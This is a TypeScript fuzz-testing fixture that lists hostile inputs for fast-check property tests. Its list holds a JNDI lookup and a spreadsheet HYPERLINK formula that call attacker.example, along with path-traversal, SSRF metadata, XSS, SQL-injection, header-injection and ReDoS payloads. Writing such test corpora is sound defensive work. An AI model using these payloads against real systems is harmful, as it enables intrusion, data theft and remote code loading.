/*
 * Copyright 2026 The MLOps Maturity Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

import fc from 'fast-check';

/** Names that every object has already. */
export const builtInNames = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'length',
  'then',
] as const;

/** Texts that nobody means well. */
export const hostileTexts: readonly string[] = [
  ...builtInNames,
  '',
  ' ',
  '\0',
  'a\0b',
  '\r\nx-injected: 1',
  '\u001b[31m',
  '\ud800',
  '\udfff\ud800',
  'half \ud83d of a pair',
  '\u202emoc.elpmaxe\u202c',
  '\u2028',
  '\ufeff',
  '../../etc/passwd',
  '..',
  '/',
  '//attacker.example/a',
  'https://user:secret@attacker.example/',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::1]:22/',
  // eslint-disable-next-line no-script-url
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  '<img src=x onerror=alert(1)>',
  '[a](javascript:alert(1))',
  '=HYPERLINK("https://attacker.example")',
  '+1',
  '-1',
  '@SUM(A1)',
  '${jndi:ldap://attacker.example}',
  '${{ secrets.TOKEN }}',
  "' OR 1=1 --",
  '%',
  '%00',
  '%2e%2e%2f',
  '*',
  '(a+)+$',
  '&a [*a, *a]',
  '!!js/function "x"',
  '<<: *a',
  '? ? ?',
  '2024-02-30',
  '+275760-09-13T00:00:00.001Z',
  '-271821-04-20T00:00:00.000Z',
  '9999-12-31T23:59:59.999Z',
  '0000-01-01T00:00:00Z',
  '1e999',
  '9007199254740993',
  'null',
  'İ',
  'x'.repeat(3_000),
  '(a '.repeat(500),
  ','.repeat(2_000),
];

/** Any code point; for its own unit of that kind fast-check lists them all. */
const codePoint = fc.integer({ min: 0, max: 0x10ffff }).map(
  code => String.fromCodePoint(code),
  text => {
    if (typeof text !== 'string' || [...text].length !== 1) {
      throw new Error('Not a code point');
    }
    return text.codePointAt(0)!;
  },
);

/** Any text, most often one that means harm. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 2, arbitrary: fc.string({ unit: codePoint, maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 80 }) },
);

/** Long texts that punish patterns which try again and again. */
export const longTexts: readonly string[] = [
  'a',
  ' ',
  '\t',
  '\n',
  '-',
  '/',
  '\\',
  '.',
  ':',
  '=',
  ',',
  ';',
  '"',
  "'",
  '`',
  '(',
  '[',
  '{',
  '<',
  '$(',
  '${',
  '#',
  '&',
  '*',
  '|',
  'a ',
  'a/',
  '- ',
  'a: ',
  '\n ',
  '\\\n',
  'é',
].flatMap(part => {
  const long = part.repeat(Math.ceil(100_000 / part.length));
  return [long, `x${long}y`, `${long}\0`];
});
